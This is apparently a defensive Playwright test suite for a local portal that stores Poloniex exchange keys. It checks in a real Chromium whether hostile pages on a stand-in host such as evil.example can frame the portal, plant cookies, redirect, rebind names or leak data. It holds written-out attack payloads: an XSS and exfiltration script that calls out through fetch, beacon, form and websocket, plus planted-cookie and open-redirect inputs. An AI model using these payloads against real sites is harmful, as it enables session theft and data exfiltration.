"""What other pages do to the portal in a real Chromium, and what somebody finds who comes to the browser later."""

from __future__ import annotations

import contextlib
import hashlib
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from hashdata_poloniex.practice_keys import values
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Dialog,
    Error,
    Page,
    expect,
    sync_playwright,
)

from tests.cli.command import PATIENCE
from tests.portal.browser import (
    Portal,
    Visiting,
    add_account,
    executable,
    fill,
    make_vault,
    origin,
    portal_fixture,
    running,
    visiting_fixture,
)
from tests.portal.conftest import on_path, until
from tests.portal.elsewhere import ATTACK, Elsewhere, elsewhere
from tests.portal.test_attacks import HOSTILE
from tests.registry.plugins import Plugin

__all__ = ["portal_fixture", "visiting_fixture"]

# No name leads out of this computer; those below .example are other sites.
NAMES_STAY_HERE = (
    "--host-resolver-rules=MAP *.example 127.0.0.1, MAP * ~NOTFOUND, "
    "EXCLUDE localhost, EXCLUDE *.localhost, EXCLUDE 127.0.0.1"
)
FOREIGN = ("127.0.0.1", "localhost", "hd-0123456789ab.localhost", "evil.example")
# What a server that is attacked is told of the ways.
WAYS = {"audio", "document", "embed", "empty", "iframe", "image", "object", "script", "socket", "style", "video"}
# Some of those in which a script of the portal's own page could tell something.
LEAKS = {"fetch", "beacon", "form", "events", "img", "iframe", "stylesheet"}
# What no template has.
STRANGE = (
    "img, svg, object, embed, base, style, script:not([src='/static/portal.js']), [onerror], [onclick], [onload], "
    "body iframe, a[href^='javascript:' i], form[action^='javascript:' i], a:not([href^='/'], [href^='#'], "
    "[href^='?'], [href^='https://'])"
)
# All ways by which a script of a page could tell what it sees, but for leaving the page.
LEAK = """
async to => {
  let ran = false;
  window.pwned = () => { ran = true; };
  const put = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
  put("script", {textContent: "window.pwned()"});
  put("div", {innerHTML: "<img src=x onerror='window.pwned()'>"});
  put("a", {href: "javascript:window.pwned()", id: "trap"});
  document.getElementById("trap").click();
  for (const tag of ["img", "script", "iframe", "embed", "video", "audio"]) put(tag, {src: to + tag});
  put("object", {data: to + "object"});
  for (const rel of ["stylesheet", "prefetch", "preload", "manifest", "icon"]) {
    put("link", {rel, href: to + rel, as: "image"});
  }
  put("base", {href: to});
  put("style", {textContent: `body { background: url(${to}style) }`});
  document.body.style.backgroundImage = `url(${to}inline)`;
  fetch(to + "fetch", {mode: "no-cors"}).catch(() => {});
  navigator.sendBeacon(to + "beacon", "x");
  new EventSource(to + "events").onerror = event => event.target.close();
  new WebSocket(to.replace("http", "ws") + "socket");
  try { new Worker(to + "worker"); } catch { undefined; }
  put("form", {action: to + "form", method: "post", target: "_blank", id: "leak"});
  document.getElementById("leak").submit();
  return ran;
}
"""


@dataclass(frozen=True, slots=True)
class Victim:
    """
    Somebody who is in the portal with a tab of their own, and whose vault is open.

    `account` is the path of the one account, and `landed` where the link led.
    """

    portal: Portal
    page: Page
    cookies: list[Any]
    account: str
    landed: str

    @property
    def name(self) -> str:
        return self.portal.host.partition(":")[0]

    @property
    def port(self) -> str:
        return self.portal.host.partition(":")[2]


@pytest.fixture(name="chromium", scope="module")
def chromium_fixture() -> Iterator[Browser]:
    # As somebody uses it: pages that one goes back to may come from memory.
    kept = ["--disable-back-forward-cache"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=executable(), args=[NAMES_STAY_HERE], ignore_default_args=kept
        )
        yield browser
        browser.close()


@pytest.fixture(name="other", scope="module")
def other_fixture() -> Iterator[Elsewhere]:
    with elsewhere() as other:
        yield other


@pytest.fixture(name="victim", scope="module")
def victim_fixture(chromium: Browser, other: Elsewhere, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Victim]:
    with running(tmp_path_factory.mktemp("victim") / "home", "--sandbox") as portal:
        context = chromium.new_context()
        context.set_default_timeout(PATIENCE * 1000)
        page = context.new_page()
        page.goto(f"{portal.link}&next={other.at('evil.example')}")
        landed = page.url
        add_account(page, "main")
        yield Victim(portal, page, context.cookies(), page.url.removeprefix(portal.origin), landed)
        context.close()


@pytest.fixture(name="context")
def context_fixture(chromium: Browser, victim: Victim, other: Elsewhere) -> Iterator[BrowserContext]:
    """Return the victim's browser as it is after coming in."""
    other.pages.clear()
    other.cookies.clear()
    other.asked.clear()
    context = chromium.new_context()
    context.set_default_timeout(PATIENCE * 1000)
    context.add_cookies(victim.cookies)
    yield context
    context.close()


def _state(victim: Victim) -> list[object]:
    """Return what is stored, and what the victim sees of it: accounts, the open vault, tests of accounts."""
    victim.page.goto(victim.portal.origin)
    cards, locks = victim.page.locator(".card h2"), victim.page.locator(".lock button")
    rounds = victim.page.evaluate(
        "names => Promise.all(names.map(name => fetch(`/rounds/${name}`).then(answer => answer.status)))",
        ["all", victim.account.rpartition("/")[2]],
    )
    files = [path for path in sorted(victim.portal.home.rglob("*")) if path.is_file()]
    digests = [(path.name, hashlib.sha256(path.read_bytes()).hexdigest()) for path in files]
    return [cards.all_inner_texts(), locks.count(), rounds, *digests]


@dataclass(slots=True)
class Watched:
    """A tab of the victim's browser, with all that it asked for and was answered, by the request's number."""

    page: Page
    asked: dict[str, str] = field(default_factory=dict)
    answered: list[tuple[str, int]] = field(default_factory=list)

    def answers(self, victim: Victim) -> list[int]:
        """Return what the portal answered."""
        return [status for number, status in self.answered if f":{victim.port}/" in self.asked.get(number, "")]


@pytest.fixture(name="watched")
def watched_fixture(context: BrowserContext, victim: Victim) -> Iterator[Watched]:
    """Watch a tab of the victim's browser; at the end nothing may have changed in the portal."""
    before, watched = _state(victim), Watched(context.new_page())
    # Below what pages are shown: a browser keeps most answers of another server from a page, and from Playwright.
    wire = context.new_cdp_session(watched.page)
    wire.send("Network.enable")
    wire.on("Network.requestWillBeSent", lambda it: watched.asked.update({it["requestId"]: it["request"]["url"]}))
    wire.on(
        "Network.responseReceivedExtraInfo", lambda it: watched.answered.append((it["requestId"], it["statusCode"]))
    )
    yield watched

    assert before[:3] == [["main"], 1, [404, 404]]
    assert _state(victim) == before


def _attack(page: Page, to: str, account: str, patience: float = PATIENCE / 2) -> list[str]:
    """Have a page do all that it can; return what it came to know."""
    known: list[str] = page.evaluate(
        ATTACK,
        {
            "to": to,
            "pages": ["/", "/add/poloniex", account, "/static/portal.js", "/static/icon.svg"],
            "forms": ["/lock", "/accounts/test", f"{account}/test", f"{account}/remove", "/add/poloniex"],
            "fields": {"label": "planted", "csrf": "", "passphrase": "", **values(1)},
            "patience": patience * 1000,
        },
    )
    return known


@pytest.mark.parametrize("name", [*FOREIGN, "the same name"])
def test_a_page_of_another_server_can_neither_do_nor_read_anything(
    watched: Watched, victim: Victim, other: Elsewhere, name: str
) -> None:
    watched.page.goto(other.at(victim.name if name == "the same name" else name))
    known = _attack(watched.page, victim.portal.origin, victim.account)
    _until(watched.page, lambda: len(watched.answers(victim)) > 60)

    assert known == []
    assert set(watched.answers(victim)) == {403}
    # Whoever knows the random name is sent the cookie, and the attacks with it; no other server is.
    assert {"cookie" in one.headers for one in other.asked} == {name == "the same name"}


def test_the_same_attacks_reach_a_server_that_protects_nothing(context: BrowserContext, other: Elsewhere) -> None:
    page = context.new_page()
    page.goto(other.at("evil.example"))
    with elsewhere() as open_to_all:
        known = _attack(page, open_to_all.at("localhost"), "/accounts/one", patience=1)
        until(lambda: {one.headers.get("sec-fetch-dest", "socket") for one in open_to_all.asked} >= WAYS)
        asked = {(one.method, one.headers.get("sec-fetch-dest")) for one in open_to_all.asked}
        posted = [one.path for one in open_to_all.asked if one.method == "POST" and "label=planted" in one.body]

    assert {one.partition(" ")[0] for one in known} >= {"fetch", "post", "window"}
    assert {method for method, dest in asked if dest == "empty"} >= {"GET", "POST", "OPTIONS"}
    assert {dest for method, dest in asked if method == "POST"} == {"document", "empty", "iframe"}
    assert set(posted) >= {"/lock", "/accounts/test", "/accounts/one/remove", "/add/poloniex"}


def test_the_portal_is_shown_in_no_frame(context: BrowserContext, victim: Victim, other: Elsewhere) -> None:
    other.pages["/frames"] = "".join(
        f'<iframe src="{to}"></iframe><iframe sandbox="allow-scripts" src="{to}"></iframe>'
        f'<iframe srcdoc="<iframe src={to}></iframe>"></iframe><object data="{to}"></object><embed src="{to}">'
        for to in (f"{victim.portal.origin}/", f"{victim.portal.origin}/static/icon.svg")
    )
    page = context.new_page()
    for name in (*FOREIGN, victim.name):
        page.goto(other.at(name, "/frames"))
        _until(page, lambda: len(_urls(page)) >= 8 and "" not in _urls(page))

        assert set(_urls(page)) == {"chrome-error://chromewebdata/"}


def _urls(page: Page) -> list[str]:
    return [frame.url for frame in page.frames[1:] if frame.url != "about:srcdoc"]


def _until(page: Page, holds: Callable[[], bool]) -> None:
    """Wait until something holds, while the browser goes on."""
    for _ in range(int(PATIENCE * 50)):
        if holds():
            return
        page.wait_for_timeout(20)
    pytest.fail("it did not happen in time")


def test_another_server_is_shown_in_the_same_frames(context: BrowserContext, other: Elsewhere) -> None:
    other.pages["/frames"] = f'<iframe src="{other.at("localhost", "/framed")}"></iframe>'
    page = context.new_page()
    page.goto(other.at("127.0.0.1", "/frames"))

    expect(page.frame_locator("iframe").locator("p")).to_have_text("shown")


def test_not_even_a_page_of_the_portal_frames_it(context: BrowserContext, victim: Victim) -> None:
    page = context.new_page()
    page.goto(victim.portal.origin)
    page.evaluate(
        "() => new Promise(done => { const frame = document.createElement('iframe'); frame.src = '/add';"
        " frame.onload = done; document.body.append(frame); })"
    )

    assert page.frames[1].url == "chrome-error://chromewebdata/"


# The name of a cookie, where it is set from, and what is set.
PLANTED = [
    ("hd-0123456789ab.localhost", "{cookie}=planted; Domain=localhost; Path=/"),
    ("hd-0123456789ab.localhost", "{cookie}=planted; Domain=.localhost; Path=/"),
    ("hd-0123456789ab.localhost", "{cookie}=planted; Domain={name}; Path=/"),
    ("localhost", "{cookie}=planted; Path=/"),
    ("127.0.0.1", "{cookie}=planted; Domain={name}; Path=/"),
    ("evil.example", "{cookie}=planted; Domain={name}; Path=/; SameSite=None"),
]


def test_another_name_plants_no_cookie(context: BrowserContext, victim: Victim, other: Elsewhere) -> None:
    before = context.cookies(victim.portal.origin)
    page = context.new_page()
    for name, cookie in PLANTED:
        other.cookies[:] = [cookie.format(cookie=victim.cookies[0]["name"], name=victim.name)]
        page.goto(other.at(name))
        page.evaluate("text => { document.cookie = text; }", other.cookies[0])

        assert context.cookies(victim.portal.origin) == before
    page.goto(victim.portal.origin)
    expect(page.locator(".card")).to_have_count(1)


@pytest.mark.parametrize("below", ["", "evil."])
def test_a_cookie_that_is_planted_by_the_very_name_lets_nobody_in(
    chromium: Browser, victim: Victim, other: Elsewhere, below: str
) -> None:
    cookie = victim.cookies[0]["name"]
    other.cookies[:] = [f"{cookie}={value}; Domain={victim.name}; Path=/" for value in ("", "None", "planted")]
    context = chromium.new_context()
    page = context.new_page()
    page.goto(other.at(f"{below}{victim.name}"))
    planted = [one.get("name") for one in context.cookies(victim.portal.origin)]
    page.goto(victim.portal.origin)

    assert planted == [cookie]
    expect(page.locator("body")).to_contain_text("Open the portal by the link")
    context.close()


@pytest.mark.parametrize("path", ["/", "/add"])
def test_a_cookie_beside_the_right_one_opens_nothing_and_breaks_nothing_for_good(
    context: BrowserContext, victim: Victim, other: Elsewhere, path: str
) -> None:
    other.cookies.append(f"{victim.cookies[0]['name']}=planted; Domain={victim.name}; Path={path}")
    page = context.new_page()
    page.goto(other.at(f"evil.{victim.name}"))
    answer = page.goto(f"{victim.portal.origin}{path}")

    assert len(context.cookies(f"{victim.portal.origin}{path}")) == 2
    assert answer is not None
    assert answer.status in {200, 401}
    context.clear_cookies(domain=re.compile("^[.]"))
    page.goto(victim.portal.origin)
    expect(page.locator(".card")).to_have_count(1)


def test_a_name_that_was_rebound_to_this_computer_shows_nothing(
    watched: Watched, context: BrowserContext, victim: Victim
) -> None:
    address, page = f"http://rebound.example:{victim.port}", watched.page
    # Even the cookie would not help.
    context.add_cookies([{"name": one["name"], "value": one["value"], "url": address} for one in victim.cookies])
    answer = page.goto(address)

    assert answer is not None
    assert answer.status == 421
    expect(page.locator("body")).to_contain_text("This address is not the portal's.")
    told: list[list[Any]] = page.evaluate(
        """async asked => Promise.all(asked.map(async ([method, path]) => {
          const body = method === "POST" ? new URLSearchParams({csrf: ""}) : null;
          const answer = await fetch(path, {method, body});
          return [answer.status, await answer.text()];
        }))""",
        [("GET", path) for path in ("/", "/add/poloniex", victim.account, "/login?token=x", "/static/portal.js")]
        + [("POST", path) for path in ("/lock", "/accounts/test")],
    )

    assert [status for status, _ in told] == [421] * 7
    assert {text for _, text in told} == {answer.text()}


def test_what_a_connector_and_an_exchange_say_becomes_no_part_of_a_page(chromium: Browser, tmp_path: Path) -> None:
    Plugin(name="hostile", source=HOSTILE, alone=True).install(tmp_path / "site")
    label = "<img src=x onerror=alert(4)>\"'<script>alert(5)"
    # Without the policy, which would hide that something got through.
    context = chromium.new_context(bypass_csp=True)

    def ended(dialog: Dialog) -> None:
        ran.append(dialog.message)
        dialog.dismiss()

    context.set_default_timeout(PATIENCE * 1000)
    ran, seen, loaded = list[str](), list[str](), list[str]()
    context.on("dialog", ended)
    context.on("request", lambda request: loaded.append(request.url))
    page = context.new_page()

    def look() -> None:
        seen.append(page.locator("body").inner_text())
        assert page.locator(STRANGE).evaluate_all("all => all.map(one => one.outerHTML)") == []

    with running(tmp_path / "home", "--sandbox", PYTHONPATH=on_path(tmp_path / "site")) as portal:
        page.goto(portal.link)
        for path in ("/add", "/add/hostile"):
            page.goto(f"{portal.origin}{path}")
            look()
        page.get_by_role("button", name="Test Keys").click()
        look()
        for number, name in ((2, "odd"), (1, label)):
            page.goto(f"{portal.origin}/add/hostile")
            page.locator("#field-label").fill(name)
            for field_name, value in values(number).items():
                page.locator(f"#field-{field_name}").fill(value)
            page.get_by_role("button", name="Test Keys").click()
            expect(page.locator(".outcome")).to_be_visible()
            look()
        page.get_by_role("button", name="Submit").click()
        make_vault(page)
        expect(page.get_by_role("heading", level=1)).to_have_text(label)
        look()
        account = page.url
        page.get_by_role("button", name="Test again").click()
        expect(page.get_by_role("status")).to_contain_text(re.compile("done", re.IGNORECASE))
        look()
        for address in (portal.origin, f"{account}/rotate", f"{account}/remove"):
            page.goto(address)
            look()
        strange = [url for url in loaded if not url.startswith(portal.origin) or url.endswith("/x")]
        context.close()

    assert ran == []
    assert len(seen) == 10
    assert all("<script>alert(" in text for text in seen[:4])
    assert [label in text for text in seen[4:]] == [True] * 6
    assert strange == []


@pytest.mark.parametrize("has_policy", [True, False])
def test_a_script_that_got_into_a_page_would_not_run_and_could_tell_nobody(
    chromium: Browser, victim: Victim, other: Elsewhere, *, has_policy: bool
) -> None:
    other.asked.clear()
    context = chromium.new_context(bypass_csp=not has_policy)
    context.add_cookies(victim.cookies)
    page = context.new_page()
    page.goto(f"{victim.portal.origin}/add/poloniex")
    ran = page.evaluate(LEAK, other.at("127.0.0.1"))
    if not has_policy:
        # Then the same script runs, and tells all that it sees.
        _until(page, lambda: {one.path for one in other.asked} >= {f"/{way}" for way in LEAKS})
    page.wait_for_timeout(300)
    told = [one.path for one in other.asked]
    context.close()

    assert ran is not has_policy
    assert bool(told) is not has_policy


def test_the_link_leads_to_the_accounts_whatever_is_added_to_it(victim: Victim) -> None:
    assert victim.landed == f"{victim.portal.origin}/"


def test_no_address_of_the_portal_leads_a_browser_elsewhere(watched: Watched, victim: Victim, other: Elsewhere) -> None:
    for path in (
        "/login?token=x&next=//{}/",
        "/login?next=http://{}/&token=",
        "//{}/",
        "/\\{}/",
        "/%2f%2f{}/",
        "/add//{}",
        "/accounts/..//{}/",
        "/@{}/",
    ):
        answer = watched.page.goto(victim.portal.origin + path.format(f"evil.example:{other.port}"))

        assert answer is not None
        assert answer.status in {401, 404}
        assert watched.page.url.startswith(f"{victim.portal.origin}/")
        assert watched.page.locator("form, a:not([href^='/']), a[href^='//']").count() == 0
    assert other.asked == []


def test_the_link_in_a_second_browser_is_refused_and_the_first_stays_in(
    chromium: Browser, victim: Victim, watched: Watched
) -> None:
    second = chromium.new_context()
    page = second.new_page()
    page.goto(victim.portal.link)

    expect(page.locator("body")).to_contain_text("This link was used already")
    page.goto(victim.portal.origin)
    expect(page.locator("body")).to_contain_text("Open the portal by the link")
    assert second.cookies() == []
    second.close()
    watched.page.goto(victim.portal.origin)
    expect(watched.page.locator(".card")).to_have_count(1)


def test_the_way_to_an_exchange_does_not_tell_where_it_began(context: BrowserContext, victim: Victim) -> None:
    page, ways = context.new_page(), 0
    page.goto(f"{victim.portal.origin}/add/poloniex")
    context.route("https://**", lambda route: route.abort())
    for link in page.locator(".guide .facts a").all():
        with context.expect_event("requestfailed") as left, context.expect_page() as opened:
            link.click()
        ways += 1

        assert left.value.url == link.get_attribute("href")
        assert "referer" not in left.value.all_headers()
        assert opened.value.evaluate("() => window.opener") is None
    assert ways > 0


def _back(page: Page) -> None:
    """Go back; Playwright's own way does not know pages that come from memory."""
    with page.expect_event("framenavigated"):
        page.evaluate("() => { setTimeout(() => history.back()); }")
    page.locator("body").wait_for()


def _typed(page: Page) -> list[str]:
    found: list[str] = page.locator("input:not([type=hidden])").evaluate_all("all => all.map(one => one.value)")
    return found


def test_going_back_shows_nothing_that_was_typed(visiting: Visiting) -> None:
    page = visiting().enter()
    page.goto(f"{origin(page)}/add/poloniex")
    fill(page, "read-only", "main")
    page.get_by_role("link", name="Exchange Accounts").first.click()
    expect(page).to_have_title("Exchange Accounts - hashdata")
    _back(page)
    expect(page).to_have_title("Add Poloniex - hashdata")
    seen = _typed(page)
    add_account(page, "main")
    for _ in range(3):
        _back(page)
        seen += _typed(page)

    # The label alone may stay: it is no secret.
    assert set(seen) <= {"", "main"}


def test_going_back_neither_opens_the_vault_nor_shows_it_open(visiting: Visiting) -> None:
    page = visiting().enter()
    add_account(page, "main")
    page.get_by_role("button", name="Lock the vault").click()
    expect(page).to_have_title("Exchange Accounts - hashdata")
    _back(page)

    expect(page.get_by_role("heading", level=1)).to_have_text("main")
    expect(page.get_by_role("button", name="Lock the vault")).to_have_count(0)
    page.get_by_role("button", name="Test again").click()
    expect(page).to_have_title("Open the vault - hashdata")


def test_after_the_end_neither_back_nor_reload_shows_anything(
    chromium: Browser, other: Elsewhere, tmp_path: Path
) -> None:
    context = chromium.new_context()
    page, second, third = (context.new_page() for _ in range(3))
    with running(tmp_path / "home", "--sandbox") as portal:
        page.goto(portal.link)
        for one in (page, second, third):
            one.goto(f"{portal.origin}/add/poloniex")
            expect(one.locator("h1")).to_have_text("Add Poloniex")
        page.goto(other.at("evil.example"))
    _back(page)
    with contextlib.suppress(Error):
        second.reload()
    with contextlib.suppress(Error):
        third.goto(f"{portal.origin}/add/poloniex")

    for one in (page, second, third):
        assert one.url == "chrome-error://chromewebdata/"
        assert "Poloniex" not in one.content()
    context.close()
